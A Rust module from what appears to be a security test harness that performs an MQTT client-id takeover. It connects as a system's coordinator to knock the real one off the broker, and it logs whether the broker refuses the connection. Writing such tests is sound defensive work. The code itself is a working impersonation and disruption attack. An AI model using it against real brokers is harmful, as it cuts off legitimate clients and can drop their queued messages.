//! Client-id takeover: an MQTT broker drops a connection when another one arrives with the same
//! client id, so connecting as the coordinator pushes it off (and with a clean session, drops
//! what the broker queued for it). A broker that binds client ids to credentials refuses the
//! connection instead.

use std::time::Duration;

use rumqttc::{AsyncClient, Event, Packet};

use crate::attack::ctx::{Beat, Ctx};
use crate::attack::link::attacker_options;

/// How long a takeover connection stays.
const HOLD: Duration = Duration::from_millis(500);

/// Once a round (or every fifth beat while none opens): connect as the coordinator, hold the
/// connection briefly, disconnect.
pub async fn take_over(ctx: &mut Ctx, beat: &Beat) {
    if !beat.per_round() || ctx.stopped() {
        return;
    }
    let options = attacker_options(&ctx.broker, &ctx.coordinator_id);
    let (client, mut eventloop) = AsyncClient::new(options, 16);
    ctx.extra_sent += 1;
    let accepted = tokio::time::timeout(Duration::from_secs(3), async {
        loop {
            match eventloop.poll().await {
                Ok(Event::Incoming(Packet::ConnAck(_))) => return true,
                Ok(_) => {}
                Err(_) => return false,
            }
        }
    })
    .await
    .unwrap_or(false);
    if !accepted {
        ctx.refused("broker_refused");
        return;
    }
    ctx.effect("connected_as_coordinator", 1);
    let _ = tokio::time::timeout(HOLD, async { while eventloop.poll().await.is_ok() {} }).await;
    let _ = client.try_disconnect();
    let _ = tokio::time::timeout(Duration::from_millis(200), eventloop.poll()).await;
}
